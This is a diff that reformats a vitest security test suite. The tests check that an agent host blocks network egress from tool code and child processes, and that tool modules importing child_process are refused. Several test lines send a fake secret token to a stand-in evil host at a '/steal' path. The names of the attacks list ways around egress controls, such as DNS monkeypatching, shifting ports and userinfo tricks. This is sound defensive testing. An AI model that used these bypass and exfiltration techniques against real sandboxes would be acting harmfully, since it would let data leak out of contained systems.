@@ -20,7 +20,15 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { compileAgent } from '../../plugin/compiler/compile';
 import { startHostileToolHosts } from './support/compile-node-host';
 import { startServer, type StubServer } from '../../plugin/runtime/__test-support__/stub-provider';
-import { a2aAsk, isolatedEnv, receiptKeys, scratch, startHostProcess, type RunningHost, type Scratch } from '../local/support/host-harness';
+import {
+  a2aAsk,
+  isolatedEnv,
+  receiptKeys,
+  scratch,
+  startHostProcess,
+  type RunningHost,
+  type Scratch,
+} from '../local/support/host-harness';
 import { exampleWorkspace, type ExampleWorkspace } from '../worker/support/example-workspace';
 
 const SECRET_QUERY = 'token=QUERY-SECRET-123';
@@ -190,7 +198,10 @@ beforeAll(async () => {
 
   const started = await startHostileToolHosts(ws, tmp, {
     module: 'examples/tools/bypass.ts',
-    source: HOSTILE_TOOL.replaceAll('__EVIL_PORT__', String(evilPort)).replaceAll('__ALLOWED_PORT__', String(allowed.port)),
+    source: HOSTILE_TOOL.replaceAll('__EVIL_PORT__', String(evilPort)).replaceAll(
+      '__ALLOWED_PORT__',
+      String(allowed.port),
+    ),
     export: 'bypass',
     edit: (d) => {
       d.toolInventory[0]!.endpoints = [allowed.url, `http://localhost:${allowed.port}`];
@@ -246,17 +257,23 @@ describe.each(['hb3', 'local'] as const)('egress bypasses from tool code in the 
     expectEvilUntouched(host);
   });
 
-  it.each(['global-fetch', 'request', 'computed-fetch', 'captured-fetch', 'delete-then-fetch', 'http-request'])('%s to a disallowed port is refused and never connects', async (name) => {
-    expectBlocked(await attack(host, { attack: name, url: evilUrl() }), EVIL_HOST());
-    expectEvilUntouched(host);
-  });
+  it.each(['global-fetch', 'request', 'computed-fetch', 'captured-fetch', 'delete-then-fetch', 'http-request'])(
+    '%s to a disallowed port is refused and never connects',
+    async (name) => {
+      expectBlocked(await attack(host, { attack: name, url: evilUrl() }), EVIL_HOST());
+      expectEvilUntouched(host);
+    },
+  );
 
-  it.each(['net-connect', 'net-connect-args', 'net-connect-lookup', 'captured-connect', 'tls-connect'])('%s to a disallowed port is refused before the socket connects', async (name) => {
-    const result = await attack(host, { attack: name, host: '127.0.0.1', port: evilPort });
-    expect(result.state).toBe(4);
-    expect(result.text).toContain('egress_blocked');
-    expectEvilUntouched(host);
-  });
+  it.each(['net-connect', 'net-connect-args', 'net-connect-lookup', 'captured-connect', 'tls-connect'])(
+    '%s to a disallowed port is refused before the socket connects',
+    async (name) => {
+      const result = await attack(host, { attack: name, host: '127.0.0.1', port: evilPort });
+      expect(result.state).toBe(4);
+      expect(result.text).toContain('egress_blocked');
+      expectEvilUntouched(host);
+    },
+  );
 
   it('a host or port that reads differently when checked and when used cannot pass', async () => {
     for (const name of ['shifting-port', 'shifting-host']) {
@@ -268,7 +285,10 @@ describe.each(['hb3', 'local'] as const)('egress bypasses from tool code in the 
   });
 
   it('https.get and the ws client to a disallowed port are refused', async () => {
-    expectBlocked(await attack(host, { attack: 'https-get', url: `https://${EVIL_HOST()}/steal?${SECRET_QUERY}` }), EVIL_HOST());
+    expectBlocked(
+      await attack(host, { attack: 'https-get', url: `https://${EVIL_HOST()}/steal?${SECRET_QUERY}` }),
+      EVIL_HOST(),
+    );
     expectBlocked(await attack(host, { attack: 'ws', url: `ws://${EVIL_HOST()}/socket?${SECRET_QUERY}` }), EVIL_HOST());
     expectEvilUntouched(host);
   });
@@ -290,7 +310,11 @@ describe.each(['hb3', 'local'] as const)('egress bypasses from tool code in the 
     const override = await attack(host, { attack: 'lookup-override', host: '127.0.0.2', port: allowed.port });
     expect(override.state).toBe(3);
     expect(JSON.parse(override.text)).toMatchObject({ status: 'connected', remote: '127.0.0.1' });
-    const patched = await attack(host, { attack: 'dns-monkeypatch', host: '127.0.0.2', url: `http://localhost:${allowed.port}/where` });
+    const patched = await attack(host, {
+      attack: 'dns-monkeypatch',
+      host: '127.0.0.2',
+      url: `http://localhost:${allowed.port}/where`,
+    });
     expect(patched.state).toBe(3);
     expect(JSON.parse(patched.text)).toMatchObject({ status: 200, text: '{"allowed":true}' });
     expectEvilUntouched(host);
@@ -320,9 +344,18 @@ describe.each(['hb3', 'local'] as const)('egress bypasses from tool code in the 
 
   it('reads userinfo as the URL standard does, and never repeats credentials', async () => {
     const allowedHost = new URL(allowed.url).host;
-    expectBlocked(await attack(host, { attack: 'global-fetch', url: `http://${allowedHost}@${EVIL_HOST()}/steal?${SECRET_QUERY}` }), EVIL_HOST());
-    expectBlocked(await attack(host, { attack: 'http-request', url: `http://${allowedHost}@${EVIL_HOST()}/steal?${SECRET_QUERY}` }), EVIL_HOST());
-    const withPassword = await attack(host, { attack: 'global-fetch', url: `http://user:${PASSWORD}@${allowedHost}/ok` });
+    expectBlocked(
+      await attack(host, { attack: 'global-fetch', url: `http://${allowedHost}@${EVIL_HOST()}/steal?${SECRET_QUERY}` }),
+      EVIL_HOST(),
+    );
+    expectBlocked(
+      await attack(host, { attack: 'http-request', url: `http://${allowedHost}@${EVIL_HOST()}/steal?${SECRET_QUERY}` }),
+      EVIL_HOST(),
+    );
+    const withPassword = await attack(host, {
+      attack: 'global-fetch',
+      url: `http://user:${PASSWORD}@${allowedHost}/ok`,
+    });
     expect(withPassword.state).toBe(4);
     expect(withPassword.text).not.toContain(PASSWORD);
     expectEvilUntouched(host);
@@ -361,12 +394,20 @@ describe('egress bypasses from a quarantined child process (its own process, its
       });
     }
     const out = tmp.path('digest-local');
-    const compiled = await compileAgent({ file: ws.definition('text-digest'), workspaceRoot: ws.root, target: 'local-mac', outDir: out });
+    const compiled = await compileAgent({
+      file: ws.definition('text-digest'),
+      workspaceRoot: ws.root,
+      target: 'local-mac',
+      outDir: out,
+    });
     expect(compiled.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
     const keys = await receiptKeys();
     const digest = startHostProcess([tmp.path('digest-local', 'launch.mjs'), '--port', '0'], {
       cwd: ws.root,
-      env: isolatedEnv(tmp.path('home-digest'), { AGENTDEF_RECEIPTS_FILE: tmp.path('digest-receipts.jsonl'), AGENTDEF_SECRET_AGENTDEF_RECEIPT_KEY: keys.secret }),
+      env: isolatedEnv(tmp.path('home-digest'), {
+        AGENTDEF_RECEIPTS_FILE: tmp.path('digest-receipts.jsonl'),
+        AGENTDEF_SECRET_AGENTDEF_RECEIPT_KEY: keys.secret,
+      }),
     });
     try {
       const url = await digest.ready;
@@ -389,19 +430,30 @@ describe('egress bypasses from a quarantined child process (its own process, its
 });
 
 describe('bundle-time refusals for Node hosts', () => {
-  it.each(['node:child_process', 'worker_threads', 'node:cluster'])('a tool module that imports %s does not compile, with a diagnostic at the tool', async (specifier) => {
-    ws.write('examples/tools/spawner.ts', `import * as m from ${JSON.stringify(specifier)};\nexport function spawner() {\n  return Object.keys(m).length;\n}\n`);
-    const tools = JSON.parse(ws.read('tools.json')) as { tools: Record<string, unknown> };
-    tools.tools['text-metrics'] = { module: './examples/tools/spawner.ts', export: 'spawner' };
-    ws.write('tools.json', JSON.stringify(tools, null, 2));
-    const out = tmp.path(`refused-${specifier.replace(/\W/g, '-')}`);
-    const result = await compileAgent({ file: ws.definition('text-stats'), workspaceRoot: ws.root, target: 'local-mac', outDir: out });
-    const errors = result.diagnostics.filter((d) => d.severity === 'error');
-    expect(errors).toHaveLength(1);
-    expect(errors[0]).toMatchObject({ file: 'tools.json', path: '/tools/text-metrics' });
-    expect(errors[0]!.message).toContain(`examples/tools/spawner.ts:1:`);
-    expect(errors[0]!.message).toContain(`may not import ${specifier}`);
-    expect(errors[0]!.message).toContain('declare a native tool instead');
-    expect(result.files).toBeUndefined();
-  });
+  it.each(['node:child_process', 'worker_threads', 'node:cluster'])(
+    'a tool module that imports %s does not compile, with a diagnostic at the tool',
+    async (specifier) => {
+      ws.write(
+        'examples/tools/spawner.ts',
+        `import * as m from ${JSON.stringify(specifier)};\nexport function spawner() {\n  return Object.keys(m).length;\n}\n`,
+      );
+      const tools = JSON.parse(ws.read('tools.json')) as { tools: Record<string, unknown> };
+      tools.tools['text-metrics'] = { module: './examples/tools/spawner.ts', export: 'spawner' };
+      ws.write('tools.json', JSON.stringify(tools, null, 2));
+      const out = tmp.path(`refused-${specifier.replace(/\W/g, '-')}`);
+      const result = await compileAgent({
+        file: ws.definition('text-stats'),
+        workspaceRoot: ws.root,
+        target: 'local-mac',
+        outDir: out,
+      });
+      const errors = result.diagnostics.filter((d) => d.severity === 'error');
+      expect(errors).toHaveLength(1);
+      expect(errors[0]).toMatchObject({ file: 'tools.json', path: '/tools/text-metrics' });
+      expect(errors[0]!.message).toContain(`examples/tools/spawner.ts:1:`);
+      expect(errors[0]!.message).toContain(`may not import ${specifier}`);
+      expect(errors[0]!.message).toContain('declare a native tool instead');
+      expect(result.files).toBeUndefined();
+    },
+  );
 });
